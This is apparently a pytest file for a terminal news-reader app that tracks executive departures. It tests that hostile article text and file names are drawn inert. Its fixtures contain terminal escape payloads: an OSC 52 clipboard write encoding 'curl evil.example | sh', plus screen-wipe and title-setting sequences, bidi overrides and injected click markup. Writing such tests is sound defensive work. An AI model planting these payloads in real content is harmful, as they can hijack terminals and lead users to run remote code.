"""Hostile article text and file names: drawn and printed inert, never as terminal sequences or
as markup; stored and exported exactly as they were."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from textual.widgets._toast import Toast

from tui.app import ChurnApp
from tui.app.screens.article import ArticleScreen
from tui.app.screens.event import EventScreen
from tui.app.views import feed_page
from tui.cli import main
from tui.ingest import ingest
from tui.inert_text import inert, inert_block
from tui.store import Reader

from tests.test_app import pane_keys, settle, type_text

ESC_TITLE = "\x1b]0;pwned\x07标题\u202e"
CLIPBOARD_GRAB = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to `curl evil.example | sh`
WIPE = "\x1b[2J"
HOSTILE = (
    '---\ntitle: "\\e]0;pwned\\a标题\\u202e"\nauthor: "\\u202e作者\\u2066"\ndate: 2025-05-01\n---\n'
    f"{WIPE}{CLIPBOARD_GRAB}据悉，面壁智能首席技术官刘知远近日已经离职[@click=app.quit]。\u202e反转\n"
    "另据消息，百川智能联合创始人焦可已经离职[/]。\n"
)
EVIL_NAME = "\x1b]0;name\x07evil\u202eecafdm.md"
# what a terminal would act on: the escape and bell characters, C1 controls and bidi overrides
LIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066")


def no_live_sequences(drawn: str) -> bool:
    return not any(ch in drawn for ch in LIVE)


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / EVIL_NAME).write_text(HOSTILE, encoding="utf-8")
    db = tmp_path / "hostile.duckdb"
    assert ingest([str(folder)], str(db), jobs=1).failed == 0
    return db, folder


def test_inert_shows_controls_as_escapes_and_drops_bidi_controls() -> None:
    assert inert(f"a{CLIPBOARD_GRAB}b\u202ec\u200fd\ne\tf\x9b") == "a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07bcd\\ne\\tf\\x9b"
    assert inert_block("第一段\n\t第二段\x1b[2J\u2067") == "第一段\n\t第二段\\x1b[2J"
    assert inert("百川智能 [b]x[/b]") == "百川智能 [b]x[/b]"  # markup is not ours to touch: it is never parsed
    assert inert(None) == ""


def test_ingest_prints_file_names_and_warnings_inert(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / EVIL_NAME).write_text(HOSTILE.replace("date: 2025-05-01", 'date: "\\e[2Jsoon"'), encoding="utf-8")
    result = CliRunner().invoke(main, ["ingest", "--db", str(tmp_path / "x.duckdb"), str(folder), "-j", "1"])
    assert result.exit_code == 0, result.output
    assert no_live_sequences(result.output), repr(result.output)
    assert "\\x1b]0;name\\x07evilecafdm.md" in result.output


def test_stored_and_exported_text_is_unchanged(hostile) -> None:
    db, _ = hostile
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", "jsonl"])
    sources = [s for line in result.output.splitlines() for s in json.loads(line)["sources"]]
    assert sources and all(s["title"] == ESC_TITLE and s["file"].endswith(EVIL_NAME) for s in sources)
    assert any(s["quote"].endswith("[@click=app.quit]") for s in sources)


def test_table_cells_are_inert() -> None:
    import polars as pl

    frame = pl.DataFrame(
        {
            "event_id": ["e1"], "month": ["2025-05"], "month_precision": ["stated"], "person": ["刘知远\u202e"],
            "company": ["面壁智能"], "role": [f"CTO{WIPE}"], "event": ["departed"], "destination": ["[b]x[/]"],
            "sources": [1], "conflict": [False],
        }
    )
    line = feed_page(frame).line(0)
    assert no_live_sequences(line) and "CTO\\x1b[2J" in line and "[b]x[/]" in line


async def test_drill_down_and_article_view_draw_hostile_text_inert(hostile) -> None:
    db, _ = hostile
    reader = Reader(db)
    app = ChurnApp(reader)
    try:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(app, pilot)
            await pilot.press("slash")
            await type_text(pilot, "刘知远")
            await pilot.press("enter")
            await settle(app, pilot)
            await pilot.press("enter")
            await settle(app, pilot)
            assert isinstance(app.screen, EventScreen)
            drawn = app.export_screenshot()
            assert no_live_sequences(drawn)
            assert "\\x1b]52;c;" in drawn and "\\x1b]0;pwned\\x07标题" in drawn and "[@click=app.quit]" in drawn
            await pilot.press("o")
            await settle(app, pilot)
            assert isinstance(app.screen, ArticleScreen)
            area = app.screen.query_one("#article-text")
            assert area.selected_text == reader.sources(pane_keys(app, "feed")[0])[0]["quote"]
            drawn = app.export_screenshot()
            assert no_live_sequences(drawn) and "\\x1b[2J" in drawn
    finally:
        reader.close()


async def test_markup_in_a_copied_quote_is_shown_not_parsed(hostile) -> None:
    db, _ = hostile
    reader = Reader(db)
    app = ChurnApp(reader)
    try:
        async with app.run_test(size=(160, 48), notifications=True) as pilot:
            await settle(app, pilot)
            for person, quote_end in (("焦可", "[/]"), ("刘知远", "[@click=app.quit]")):
                await pilot.press("slash")
                await type_text(pilot, person)
                await pilot.press("enter")
                await settle(app, pilot)
                await pilot.press("c")
                await settle(app, pilot)
                assert app.clipboard.endswith(quote_end)
                await pilot.pause()
                toasts = [str(t.render()) for t in app.query(Toast)]
                assert any(quote_end in t for t in toasts), toasts
            # an action in a toast would be a span with @click meta: none is there
            for toast in app.query(Toast):
                assert "@click" not in repr(toast.render().spans)
    finally:
        reader.close()


async def test_markup_typed_into_the_month_prompt_is_shown_not_parsed(seed_db: Path) -> None:
    reader = Reader(seed_db)
    app = ChurnApp(reader)
    try:
        async with app.run_test(size=(160, 48), notifications=True) as pilot:
            await settle(app, pilot)
            await pilot.press("m")
            await pilot.pause()
            await pilot.press("ctrl+a", "ctrl+k")
            await type_text(pilot, "x[/]")
            await pilot.press("enter")
            await settle(app, pilot)
            # refused under the input, the prompt left open to correct it
            assert "'x[/]' is not a month" in app.screen.error, app.screen.error
    finally:
        reader.close()


async def test_an_export_path_with_brackets_is_shown_whole(seed_db: Path, tmp_path: Path, monkeypatch) -> None:
    folder = tmp_path / "[word]"
    folder.mkdir()
    monkeypatch.setenv("CHURN_TUI_EXPORTS", str(folder))
    reader = Reader(seed_db)
    app = ChurnApp(reader)
    try:
        async with app.run_test(size=(160, 48), notifications=True) as pilot:
            await settle(app, pilot)
            await app.run_action("export('csv')")
            await settle(app, pilot)
            await pilot.pause()
            (written,) = folder.glob("churn-export-*.csv")
            toasts = [str(t.render()) for t in app.query(Toast)]
            assert any(str(written) in t.replace("\n", "") for t in toasts), toasts
    finally:
        reader.close()


def test_the_tables_scan_finds_exactly_what_inert_escapes() -> None:
    import polars as pl

    from tui.app.views import _NEEDS_ESCAPE
    from tui.inert_text import ESCAPES

    every = pl.Series([chr(c) for c in range(0x10000) if not 0xD800 <= c <= 0xDFFF])
    assert set(every.filter(every.str.contains(_NEEDS_ESCAPE))) == set(ESCAPES)
